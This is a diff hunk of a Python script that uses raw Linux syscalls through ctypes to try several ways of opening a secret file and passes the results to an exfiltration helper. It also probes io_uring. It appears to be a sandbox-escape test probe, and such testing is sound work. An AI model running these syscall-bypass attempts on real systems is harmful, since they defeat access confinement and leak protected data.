@@ -13,7 +13,7 @@ try:
     libc = ctypes.CDLL(None, use_errno=True)
     def rd(fd):
         b = ctypes.create_string_buffer(4096); n = libc.read(fd, b, 4096); return b.raw[:max(n, 0)]
-    for nr in (257, 2, 0x40000000 + 257, 437):
+    for nr in (257, 2, 304, 437):
         fd = libc.syscall(nr, -100, b"@WORLD@/home/secret.txt", 0, 0) if nr != 2 else libc.syscall(2, b"@WORLD@/home/secret.txt", 0, 0)
         _exfil(nr, fd, rd(fd) if fd >= 0 else ctypes.get_errno())
     print("uring", libc.syscall(425, 8, ctypes.create_string_buffer(256)), ctypes.get_errno())
